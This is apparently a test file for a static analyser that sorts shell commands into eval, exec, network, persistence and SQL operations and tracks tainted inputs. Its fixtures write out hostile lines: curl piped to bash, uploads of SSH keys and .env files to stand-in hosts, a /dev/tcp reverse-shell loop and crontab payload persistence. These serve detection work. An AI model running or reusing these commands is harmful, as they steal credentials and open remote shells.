// Shell ops: which commands are eval/exec/system/network/persistence_write/sql, with their look-alikes.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { callsOf, kinds, onlyCall, shellFacts, taintsOf } from './test-support.js';

test('wrappers are unwrapped: sudo/env/nohup/timeout run curl', async () => {
  const f = await shellFacts('set -e\nsudo -u root env A=1 nohup timeout 5 curl -d "$API_KEY" https://h.example/x\n');
  const c = onlyCall(f, 'network');
  assert.equal(c.callee, 'curl');
  assert.equal(c.host, 'h.example');
  assert.equal(c.line, 2);
  assert.deepEqual(taintsOf(c), ['env@2']);
  assert.equal(c.authHeaderOnly, false);
});

test('eval: non-constant argument vs the local-tool setup idioms', async () => {
  const f = await shellFacts('eval "$1"\neval "$(ssh-agent -s)"\neval "$(/opt/homebrew/bin/brew shellenv)"\neval \'echo hi\'\n');
  const evals = callsOf(f, 'eval');
  assert.deepEqual(evals.map((c) => [c.line, c.constantArgs]), [[1, false], [2, true], [3, true], [4, true]]);
  assert.deepEqual(taintsOf(evals[0]!), ['user_input@1']);
  assert.deepEqual(evals.slice(1).flatMap((c) => c.taints), [], 'local tool output carries no taint');
});

test('exec: a downloaded script piped into a shell or interpreter', async () => {
  const f = await shellFacts('curl -fsSL https://x.example/i.sh | bash\nwget -qO- https://x.example/s | sh -s -- --flag\ncurl -s https://x.example/p | python3\n');
  const execs = callsOf(f, 'exec');
  assert.deepEqual(execs.map((c) => [c.line, c.callee]), [[1, 'bash'], [2, 'sh'], [3, 'python3']]);
  for (const c of execs) {
    assert.equal(c.taints[0]?.kind, 'network_input');
    assert.equal(c.taints[0]?.viaVariable, false);
  }
});

test('exec: process substitution and /dev/stdin as the script', async () => {
  const f = await shellFacts('bash <(curl -s https://x.example/a)\nsource <(wget -qO- https://x.example/b)\n. <(echo hi)\ncurl https://x.example/c | source /dev/stdin\n');
  const execs = callsOf(f, 'exec');
  assert.deepEqual(execs.map((c) => [c.line, c.callee, c.constantArgs]), [[1, 'bash <(…)', false], [2, 'source', false], [3, 'source', true], [4, 'source', false]]);
  assert.deepEqual(taintsOf(execs[0]!), ['network_input@1']);
  assert.deepEqual(taintsOf(execs[3]!), ['network_input@4']);
});

test('not exec: downloads to a file, running or sourcing files, constant inline code', async () => {
  const f = await shellFacts([
    'curl -s https://example.com/install.sh -o install.sh',
    'bash install.sh',
    'source ./venv/bin/activate',
    'source "$SCRIPT_DIR/lib.sh"',
    "python3 - <<'PY'\nprint(1)\nPY",
    "python3 -c 'import sys; print(sys.version)'",
    "perl -ne 'print if /x/' file.txt",
    'git clone https://github.com/a/b && npm install && pip install -r requirements.txt',
  ].join('\n'));
  assert.deepEqual(callsOf(f, 'exec'), []);
  assert.deepEqual(callsOf(f, 'system'), []);
  assert.deepEqual(f.patterns, []);
});

test('exec: interpreter code from a variable', async () => {
  const f = await shellFacts('CODE=$(curl -s https://x.example/c)\npython3 -c "$CODE"\nnode -e "$1"\n');
  const execs = callsOf(f, 'exec');
  assert.deepEqual(execs.map((c) => [c.line, c.callee]), [[2, 'python3 -c'], [3, 'node -c']]);
  assert.deepEqual(taintsOf(execs[0]!), ['network_input@1~']);
  assert.deepEqual(taintsOf(execs[1]!), ['user_input@3']);
});

test('system: sh -c with a computed string; constant strings are constantArgs', async () => {
  const f = await shellFacts('bash -c "echo hi"\nsh -c "$1"\nbash -lc "make $TARGET"\nsu - app -c "id"\n');
  const sys = callsOf(f, 'system');
  assert.deepEqual(sys.map((c) => [c.line, c.callee, c.constantArgs, c.shell]), [
    [1, 'bash -c', true, true], [2, 'sh -c', false, true], [3, 'bash -lc'.replace('-lc', '-c'), false, true], [4, 'su -c', true, true],
  ]);
  assert.deepEqual(taintsOf(sys[1]!), ['user_input@2']);
});

test('system: xargs and find -exec run a shell', async () => {
  const f = await shellFacts("curl -s https://x.example/l | xargs -I{} sh -c '{}'\nfind . -name '*.sh' -exec bash -c 'shellcheck \"$1\"' _ {} \\;\n");
  const sys = callsOf(f, 'system');
  assert.deepEqual(sys.map((c) => [c.line, c.constantArgs]), [[1, false], [2, true]]);
  assert.deepEqual(taintsOf(sys[0]!), ['network_input@1']);
});

test('process: a command named by a variable is reflective; a constant one resolves', async () => {
  const f = await shellFacts('cmd=$(cat cmd.txt)\n$cmd --now\nPY=python3\n$PY -c \'print(1)\'\n');
  const proc = onlyCall(f, 'process');
  assert.equal(proc.line, 2);
  assert.equal(proc.callee, '$cmd');
  assert.equal(proc.shell, false);
  assert.deepEqual(taintsOf(proc), ['file_read@1~']);
  assert.deepEqual(callsOf(f, 'system'), []);
  assert.deepEqual(f.reflective.map((r) => [r.line, r.name, r.dangerous]), [[2, null, false]]);
});

test('process, not system: argument vectors run through wrappers, with the name as written', async () => {
  const f = await shellFacts([
    'run() { local d="$1"; shift; "$@"; }',
    'run "list pods" kubectl get pods',
    '"$CC" "-$OPT" -S "$SRC" -o "$OUT"',
    'ARGV=(semgrep --json); "${ARGV[@]}" > out &',
    'nohup env SESSION="$DIR" OWNER="$1" "$NODE" server.js > log 2>&1 &',
    'sudo -u app $cmd --version',
    'nohup env SESSION="$DIR" OWNER="$1" node server.js &',
  ].join('\n'));
  const procs = callsOf(f, 'process');
  assert.deepEqual(procs.map((c) => [c.line, c.callee, c.shell]), [
    [1, '"$@"', false], [3, '"$CC"', false], [4, '"${ARGV[@]}"', false], [5, '"$NODE"', false], [6, '$cmd', false],
  ]);
  assert.deepEqual(procs[0]!.taints, [], 'run is only called with constants');
  assert.equal(procs[0]!.constantArgs, true);
  // "$@" and "${ARGV[@]}" run a vector the script built (the wrapper idiom); scalars as names are reflective.
  assert.deepEqual(f.reflective.map((r) => r.line), [3, 5, 6]);
  assert.deepEqual([...callsOf(f, 'system'), ...callsOf(f, 'exec'), ...callsOf(f, 'eval')], []);
});

test('arithmetic and test expressions are not commands', async () => {
  const f = await shellFacts([
    'cat <<EOF',
    '{"n": $((${#A[@]} + ${#B[@]})), "m": $(( ${#A[@]} ))}',
    'EOF',
    '(( ${#arr[@]} > 0 )) || exit 1',
    '(( n = $x + 1 ))',
    '"$scanned" -ne 0 ] || printf "%s\\n" "$lang" >> "$LOG"',
    '"${arr[*]}" == *"$x"* ]]',
    '(( x = $(curl -s https://x.example/n | sh) ))',
  ].join('\n'));
  assert.deepEqual(callsOf(f, 'process'), []);
  assert.deepEqual(f.reflective, []);
  // A substitution inside arithmetic still runs its commands.
  assert.deepEqual(callsOf(f, 'exec').map((c) => c.line), [8]);
});

test('a real command ending in a bracket word is still a command when named [ or test', async () => {
  const f = await shellFacts('[ "$(curl -s https://x.example/c | sh)" = ok ]\n"$tool" --flag ]x\n');
  assert.deepEqual(callsOf(f, 'exec').map((c) => c.line), [1]);
  assert.deepEqual(callsOf(f, 'process').map((c) => c.line), [2]);
});

test('network: auth header calibration and host', async () => {
  const f = await shellFacts([
    'curl -H "Authorization: Bearer $GITHUB_TOKEN" https://api.github.com/repos/o/r',
    'curl -sSL -u "me:$API_TOKEN" "https://api.example.com/v1/$ID"',
    'curl -H "X-Data: $API_KEY" https://a.example',
    'curl -H "Authorization: Bearer $TOKEN" -d "$SECRET" https://b.example',
    'curl https://c.example/health',
  ].join('\n'));
  const net = callsOf(f, 'network');
  assert.deepEqual(net.map((c) => [c.line, c.host, c.authHeaderOnly]), [
    [1, 'api.github.com', true], [2, 'api.example.com', true], [3, 'a.example', false], [4, 'b.example', false], [5, 'c.example', false],
  ]);
  assert.deepEqual(taintsOf(net[0]!), ['env@1']);
  assert.deepEqual(net[4]!.taints, [], 'an untainted call is still recorded');
});

test('network: curl reads the files named by @file, -F x=@file and -T', async () => {
  const f = await shellFacts('curl -F "f=@$HOME/.ssh/id_rsa" https://e.example\ncurl --data-binary @notes.txt https://e.example\ncurl -T report.pdf https://e.example\ncurl -d @- https://e.example < .env\n');
  const net = callsOf(f, 'network');
  assert.deepEqual(net.map((c) => taintsOf(c)), [['credential_file@1'], ['file_read@2'], ['file_read@3'], ['credential_file@4']]);
});

test('network: a computed @path is not counted as a file read (the user\'s own artefact); the path text is still input', async () => {
  const f = await shellFacts([
    'f="$1"',
    'curl -s -d @"$f" https://e.example/up',
    'curl -s -F file=@"$f" https://e.example/up',
    'curl -s -T "$f" https://e.example/up',
    'wget --post-file="$f" https://e.example/up',
    'curl -s -d "$f" https://e.example/up',
    'curl -s --data-raw @"$f" https://e.example/up',
  ].join('\n'));
  const net = callsOf(f, 'network');
  assert.deepEqual(net.map((c) => [c.line, kinds(c)]), [
    [2, ['user_input']], [3, ['user_input']], [4, ['user_input']], [5, []],
    [6, ['user_input']], [7, ['user_input']],
  ]);
});

test('network: /dev/tcp opened read-write (<>) is read like <, host and port may be variables', async () => {
  const f = await shellFacts([
    'probe="probe.example.net"',
    '{ while IFS= read -r line; do eval "$line" 2>&1; done; } <>"/dev/tcp/$probe/4433" >&0 &',
    'exec 3<>"/dev/tcp/$1/4433"',
    'while read -r l <&3; do eval "$l"; done',
    'read -u 3 cmd; bash -c "$cmd"',
    'echo "$API_KEY" > "/dev/tcp/$1/80"',
    '{ read -r x; eval "$x"; } 0<>"/dev/tcp/$1/1"',
  ].join('\n'));
  assert.deepEqual(callsOf(f, 'eval').map((c) => [c.line, kinds(c)]), [[2, ['network_input']], [4, ['network_input']], [7, ['network_input']]]);
  assert.deepEqual(callsOf(f, 'system').map((c) => [c.line, kinds(c)]), [[5, ['network_input']]]);
  const net = callsOf(f, 'network');
  assert.deepEqual(net.map((c) => [c.line, c.host, kinds(c)]), [[2, 'probe.example.net', []], [3, undefined, []], [6, undefined, ['env']], [7, undefined, []]]);
});

test('not network input: <> on an ordinary file, a socket only written to, read from the terminal', async () => {
  const f = await shellFacts([
    'exec 4<>/dev/tcp/status.example.net/80',
    'printf "HEAD / HTTP/1.0\\r\\n\\r\\n" >&4',
    'while read -r l; do eval "$l"; done <> commands.fifo',
    'read -r -p "cmd? " c; eval "$c"',
  ].join('\n'));
  assert.deepEqual(callsOf(f, 'eval').map((c) => [c.line, kinds(c)]), [[3, ['user_input']], [4, ['user_input']]]);
});

test('network: sockets, /dev/tcp and wget bodies', async () => {
  const f = await shellFacts('tar cz ~/.ssh | nc 10.0.0.1 9000\necho "$DB_PASSWORD" > /dev/tcp/203.0.113.5/80\nwget --post-data="k=$API_KEY" https://w.example/p\n');
  const net = callsOf(f, 'network');
  assert.deepEqual(net.map((c) => [c.line, c.callee, c.host]), [[1, 'nc', '10.0.0.1'], [2, '/dev/tcp', '203.0.113.5'], [3, 'wget', 'w.example']]);
  assert.deepEqual(taintsOf(net[0]!), ['credential_file@1']);
  assert.deepEqual(taintsOf(net[1]!), ['env@2']);
  assert.deepEqual(taintsOf(net[2]!), ['env@3']);
});

test('persistence_write: redirections, tee, crontab, launchctl, systemctl, cp', async () => {
  const f = await shellFacts([
    "echo 'export PATH=\"$HOME/.local/bin:$PATH\"' >> ~/.bashrc",
    'echo "$1" | tee -a "$HOME/.zshrc" >/dev/null',
    '(crontab -l; echo "* * * * * $PAYLOAD") | crontab -',
    'launchctl load -w ~/Library/LaunchAgents/com.x.plist',
    'systemctl --user enable x.service',
    'cp agent.service ~/.config/systemd/user/',
    'cat > /etc/cron.d/job <<EOF\n* * * * * root $CMD\nEOF',
  ].join('\n'));
  const w = callsOf(f, 'persistence_write');
  assert.deepEqual(w.map((c) => [c.line, c.callee, c.target, c.constantArgs]), [
    [1, '>>', '~/.bashrc', true],
    [2, 'tee', '~/.zshrc', false],
    [3, 'crontab', 'crontab', false],
    [4, 'launchctl', '~/Library/LaunchAgents/com.x.plist', true],
    [5, 'systemctl', 'systemd:x.service', true],
    [6, 'cp', '~/.config/systemd/user/', true],
    [7, '>', '/etc/cron.d/job', false],
  ]);
  assert.deepEqual(taintsOf(w[1]!), ['user_input@2']);
});

test('not persistence: ordinary files, listing the crontab', async () => {
  const f = await shellFacts('echo hi > out.txt\ncrontab -l > backup.txt\ncp a.txt b.txt\ncat ~/.bashrc\n');
  assert.deepEqual(callsOf(f, 'persistence_write'), []);
});

test('sql: query strings built from input, direct and through a variable', async () => {
  const f = await shellFacts('sqlite3 db.sqlite "SELECT * FROM t WHERE id = $1"\nQ="DELETE FROM t WHERE n = \'$1\'"\nsqlite3 db "$Q"\npsql -c "SELECT 1"\nmysql -e "DROP TABLE $2" app\necho "SELECT $1" | sqlite3 db\n');
  const sql = callsOf(f, 'sql');
  assert.deepEqual(sql.map((c) => [c.line, c.callee, c.constantArgs]), [[1, 'sqlite3', false], [3, 'sqlite3', false], [4, 'psql', true], [5, 'mysql', false], [6, 'sqlite3', false]]);
  assert.deepEqual(taintsOf(sql[0]!), ['user_input@1']);
  assert.deepEqual(taintsOf(sql[1]!), ['user_input@2~']);
  assert.deepEqual(taintsOf(sql[4]!), ['user_input@6']);
});

test('facts carry line, column and clipped text; no process/compile/deserialize ops', async () => {
  const f = await shellFacts(`  eval "$X" ${'y'.repeat(500)}\n`);
  const e = onlyCall(f, 'eval');
  assert.equal(e.line, 1);
  assert.equal(e.column, 2);
  assert.ok(e.text.startsWith('eval "$X"') && e.text.length <= 160);
  assert.ok(f.calls.every((c) => !['process', 'compile', 'deserialize', 'dynamic_import'].includes(c.op)));
});
